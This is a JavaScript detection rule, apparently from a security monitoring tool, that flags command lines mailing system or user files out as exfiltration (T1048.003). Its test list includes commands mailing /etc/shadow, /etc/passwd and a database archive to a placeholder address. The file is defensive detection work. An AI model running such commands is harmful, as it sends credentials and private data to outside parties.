import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A file of the system or of people is sent by mail from the command line. */
export const mailWithAttachment = commandRule({
  id: "mail-with-attachment",
  alertType: "Picket_MailWithAttachment",
  name: "File sent by mail from the command line",
  severity: "Low",
  about: "A file of the system or of people is sent by mail from the command line.",
  tactics: ["Exfiltration"],
  techniques: ["T1048.003"],
  falsePositives: ["Reports that cron mails to an administrator."],
  witness: ["mail ", "mailx", "mutt", "sendmail", "swaks", "msmtp"],
  sees: (reading) =>
    find(reading, /^(?:mail|mailx|mutt|s-nail)$/, ({ argv }) =>
      argv.some(
        (word, place) =>
          /^-[aA]$/.test(word) && /^\/(?:etc|root|home|var\/(?:www|lib))\//.test(argv[place + 1] ?? ""),
      ),
    ) ??
    find(reading, /^swaks$/, ({ text }) => /--attach\s+@?\/\S+/.test(text)) ??
    find(reading, /^(?:sendmail|msmtp|mail)$/, ({ redirections }) =>
      redirections.some(
        ({ operator, target }) =>
          operator.startsWith("<") && /^\/etc\/(?:passwd|shadow)|\/\.ssh\//.test(target),
      ),
    ),
  did: "sent a file by mail",
  because: "data leaves by mail",
  fires: [
    "mutt -s x -a /etc/shadow -- x@example.net",
    "swaks --to x@example.net --attach /home/op/db.zip",
    "sh -c mail x@example.net < /etc/passwd",
  ],
  silent: [
    "mail -s report op@example.net",
    "sh -c mail -s log op@example.net < /var/log/backup.log",
    "mutt -f /var/mail/op",
    "sendmail -q",
    "msmtp --version",
  ],
});
